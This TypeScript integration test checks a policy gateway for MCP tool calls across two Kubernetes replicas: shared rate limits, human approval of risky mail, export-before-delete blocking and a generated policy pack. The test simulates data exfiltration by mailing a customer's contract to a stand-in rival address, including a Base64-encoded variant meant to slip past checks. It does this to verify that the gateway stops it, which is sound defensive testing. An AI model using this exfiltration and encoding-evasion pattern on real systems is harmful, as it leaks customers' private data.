/**
 * What happens over time, as a firm meets it that has two replicas and one store for both: a budget that is spent once and not twice, a
 * customer's file that does not leave by mail, an export that no delete follows, and a pack made of what agents did. A part of story.test.ts.
 */
import { randomBytes } from 'node:crypto';
import { mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runCli, Workspace } from '../../support/cli.ts';
import { customerOf, registerCustomers } from '../../support/customers-surface.ts';
import { type FixtureServer, startFixture } from '../../support/fixture-server.ts';
import {
  INITIALIZE,
  callTool,
  legacyHeaders,
  messagesIn,
  modernHeaders,
  modernRequest,
  outcomeIn,
} from '../../support/messages.ts';
import { StoreServer, storePrograms } from '../../support/store-server.ts';
import { CREDITS, NAMESPACE, PACK, REPLICAS, SERVER, STORE, objects, storeObjects } from './books.ts';

const CLIENTS = 8;
const CALLS_EACH = 20;
const PARTNER = { to: 'desk@partner.example', body: 'Good morning, the invoice is on its way.' };
/** What an approver reads. */
const FROM_THE_FILE = /hold what tool "read_customer" .* has answered/;
const CLIENT_SECRET = join(import.meta.dirname, '../../../examples/kubernetes/clients.yaml');

interface Parts {
  readonly k: (args: readonly string[], input?: string) => Promise<string>;
  readonly own: (...args: string[]) => Promise<string>;
  readonly soon: <T>(check: () => Promise<T>, timeout?: number) => Promise<T>;
  /** Of this machine, for pods. */
  readonly address: () => string;
  /** Of the Secret in examples/kubernetes/clients.yaml. */
  readonly token: string;
}

interface Request {
  readonly metadata: { readonly name: string };
  readonly spec: { readonly server: string; readonly reason: string };
  readonly status?: { readonly state: string };
}

export function tellOfThePast({ k, own, soon, address, token }: Parts): void {
  const [program] = storePrograms();
  describe.skipIf(program === undefined)('what happens over time', () => {
    const home = new Workspace();
    let store: StoreServer;
    let local: FixtureServer;
    /** The addresses of both replicas. */
    let pods: string[] = [];

    const post = async (url: string, headers: [string, string][], body: string): Promise<Response> =>
      fetch(url, {
        method: 'POST',
        headers: Object.fromEntries([...headers, ['authorization', `Bearer ${token}`]]),
        body,
        signal: AbortSignal.timeout(60_000),
      });
    const at = (replica: number): string => `http://${pods[replica % REPLICAS] ?? ''}:8484/mcp`;
    const body = async (answer: Promise<Response>): Promise<string> => (await answer).text();

    /** A call of its own, to a replica or another gate. */
    const call = (where: number | string, name: string, args: Record<string, unknown> = {}): Promise<string> => {
      const url = typeof where === 'number' ? at(where) : where;
      const message = modernRequest('tools/call', { name, arguments: args });
      return body(post(url, modernHeaders('tools/call', name), message));
    };

    /** How many calls of a tool reached the servers in the pods that there are. */
    async function reached(tool: string): Promise<number> {
      const log = await own('logs', '-l', `app=${SERVER}`, '-c', 'server', '--tail=-1', '--max-log-requests=10');
      return log.split('\n').filter((line) => line.includes('tools/call') && line.includes(tool)).length;
    }

    async function bothReplicas(): Promise<void> {
      await own('rollout', 'status', `deployment/${SERVER}`, '--timeout=90s');
      await own('wait', '--for=condition=Ready', `mcpserver/${SERVER}`, '--timeout=60s');
      await own('wait', '--for=condition=StateShared', `mcpserver/${SERVER}`, '--timeout=60s');
      const running = ['--field-selector=status.phase=Running', '-o', 'jsonpath={.items[*].status.podIP}'];
      pods = await soon(async () => {
        const found = (await own('get', 'pods', '-l', `app=${SERVER}`, ...running)).trim().split(' ');
        expect(found).toHaveLength(REPLICAS);
        return found;
      });
    }

    /** The one request that waits for a person. */
    const pending = (): Promise<Request> =>
      soon(async () => {
        const { items } = JSON.parse(await own('get', 'approvalrequests.sallyport.dev', '-o', 'json')) as {
          items: Request[];
        };
        const waits = ({ spec, status }: Request) => spec.server === SERVER && status?.state === 'Pending';
        return items.find(waits) ?? expect.fail('nobody is asked');
      });
    const decide = ({ metadata }: Request, decision: 'Approved' | 'Denied'): Promise<string> => {
      const vote = ['--subresource=status', '--type=merge', '-p', JSON.stringify({ status: { decision } })];
      return own('patch', `approvalrequests.sallyport.dev/${metadata.name}`, ...vote, '--as', 'ada');
    };

    beforeAll(async () => {
      const password = randomBytes(24).toString('base64url');
      const also = { address: address(), name: `${STORE}.${NAMESPACE}.svc` };
      store = await StoreServer.start(program ?? expect.fail(), { password, tls: true, also });
      local = await startFixture(0, { onServer: registerCustomers });
      const path = 'jsonpath={.spec.template.spec.containers[0].image}';
      const image = await own('get', 'deployment', 'everything', '-o', path);
      const items = [...storeObjects(also.address, store.port, password), ...objects(image, store.ca ?? '')];
      const list = JSON.stringify({ apiVersion: 'v1', kind: 'List', items });
      await soon(() => k(['-n', NAMESPACE, 'apply', '-f', '-'], list));
      await bothReplicas();
    }, 180_000);
    afterAll(async () => {
      await own('delete', `deployment/${SERVER}`, `mcpserver/${SERVER}`, `service/${STORE}`, `secret/${STORE}`);
      await own('delete', `policypack/${SERVER}`, 'policypack/suggested', '--ignore-not-found', '--wait=false');
      await local.close();
      await store.close();
      home.close();
    });

    test('eight clients over both replicas spend 100 credits and not one more, and no restart gives any back', async () => {
      const outcomes = await Promise.all(
        Array.from({ length: CLIENTS }, async (_, client) => {
          const seen: (string | undefined)[] = [];
          for (let i = 0; i < CALLS_EACH; i++) seen.push(outcomeIn(await call(client + i, 'echo'))[1]);
          return seen;
        }),
      );
      const all = outcomes.flat();
      expect(all.filter((refusal) => refusal === undefined)).toHaveLength(CREDITS);
      expect(all.filter((refusal) => refusal === 'limited')).toHaveLength(CLIENTS * CALLS_EACH - CREDITS);
      expect(await reached('echo')).toBe(CREDITS);

      await own('delete', 'pods', '-l', `app=${SERVER}`);
      await bothReplicas();
      for (let replica = 0; replica < REPLICAS; replica++)
        expect(outcomeIn(await call(replica, 'echo'))[1]).toBe('limited');
      expect(await reached('echo')).toBe(0);
    }, 180_000);

    /** A session that is opened at a replica. */
    async function sessionAt(replica: number) {
      const opened = await post(at(replica), legacyHeaders(), INITIALIZE);
      await opened.text();
      const headers = legacyHeaders(opened.headers.get('mcp-session-id') ?? expect.fail('no session'));
      return (where: number, name: string, args: Record<string, unknown>): Promise<string> =>
        body(post(at(where), headers, callTool(name, args)));
    }

    test('what a session has read waits for a person when it is mailed, also by the other replica, another session and in Base64', async () => {
      const rival = (text: string) => ({ to: 'friend@rival.example', body: text });
      const { contract, email } = customerOf(17);
      const session = await sessionAt(0);
      expect(await session(0, 'read_customer', { id: 17 })).toContain(contract);
      expect(await session(1, 'send_mail', rival('Good morning.'))).toContain('sent to friend');

      const plain = session(1, 'send_mail', rival(`They signed ${contract}.`));
      const first = await pending();
      expect(first.spec.reason).toMatch(FROM_THE_FILE);
      expect(first.spec.reason).toContain('customer data stays in the house');
      await decide(first, 'Approved');
      expect(await plain).toContain('sent to friend');

      const other = await sessionAt(1);
      const encoded = Buffer.from(`Write to ${email} about ${contract}`).toString('base64');
      const mailed = other(1, 'send_mail', rival(encoded));
      const second = await pending();
      expect(second.spec.reason).toMatch(FROM_THE_FILE);
      await decide(second, 'Denied');
      expect(await mailed).toContain('ada denied this call');
      expect(await reached('send_mail')).toBe(2);
    }, 90_000);

    test('an export at one replica stops a delete at the other', async () => {
      expect(await call(1, 'delete_customers')).toContain('delete_customers ran');
      expect(await call(0, 'export_customers')).toContain('export_customers ran');
      const stopped = await call(1, 'delete_customers');
      expect(outcomeIn(stopped)[1]).toBe('denied');
      expect(JSON.stringify(messagesIn(stopped))).toContain('export_customers');
      expect(await reached('delete_customers')).toBe(1);
    }, 60_000);

    test('a pack made of recorded traffic passes its own tests and, in force, denies the attack that was not in it', async () => {
      const sallyport = async (...words: string[]): Promise<string> => {
        const ran = runCli(home, ...words);
        const code = await ran.exit(60_000);
        expect(code, [...ran.out, ...ran.err].join('\n')).toBe(0);
        return ran.out.join('\n');
      };
      const work = async (where: number | string): Promise<string[]> => [
        await call(where, 'read_customer', { id: 17 }),
        await call(where, 'read_customer', { id: 23 }),
        await call(where, 'send_mail', PARTNER),
      ];
      mkdirSync(home.path('open'));
      home.write('open/clients.yaml', readFileSync(CLIENT_SECRET, 'utf8'));
      const open = [
        {
          kind: 'MCPServer',
          spec: { remote: { url: local.url }, access: { tokens: { secretName: 'everything-clients' } } },
        },
        { kind: 'PolicyPack', spec: { tools: PACK.tools } },
      ].map((object) =>
        JSON.stringify({
          apiVersion: 'sallyport.dev/v1alpha1',
          ...object,
          metadata: { name: SERVER, namespace: NAMESPACE },
        }),
      );
      home.write('open/open.yaml', open.join('\n---\n'));
      const ports = ['--port', '0', '--metrics-port', '0'];
      const up = runCli(home, 'up', '-f', './open', '--record', 'traffic.jsonl', ...ports);
      const [, port = ''] = await up.said(/http:\/\/127\.0\.0\.1:(\d+)\/mcp/);
      const gate = `http://127.0.0.1:${port}/mcp`;
      await body(post(gate, modernHeaders('tools/list'), modernRequest('tools/list')));
      expect((await work(gate)).map((said) => outcomeIn(said)[1])).toEqual([undefined, undefined, undefined]);
      await up.close();

      await sallyport('suggest', 'traffic.jsonl', '--out', './suggested', '--target', `app=${SERVER}`);
      await sallyport('lint', './suggested');
      expect(await sallyport('test', './suggested')).toMatch(/# \d+ tests, 0 failed/);

      await own('apply', '-f', home.path('suggested/suggested.yaml'));
      await own('delete', `policypack/${SERVER}`);
      await soon(async () => expect(outcomeIn(await call(0, 'export_customers'))[1]).toBe('denied'));
      await soon(async () => expect(outcomeIn(await call(1, 'export_customers'))[1]).toBe('denied'));
      for (let replica = 0; replica < REPLICAS; replica++) {
        expect((await work(replica)).map((said) => outcomeIn(said)[1])).toEqual([undefined, undefined, undefined]);
        const attacks = [
          await call(replica, 'read_customer', { id: 400 }),
          await call(replica, 'send_mail', { ...PARTNER, body: 'x'.repeat(5_000) }),
          await call(replica, 'delete_customers'),
        ];
        expect(attacks.map((said) => outcomeIn(said)[1])).toEqual(['denied', 'denied', 'denied']);
      }
    }, 120_000);
  });
}
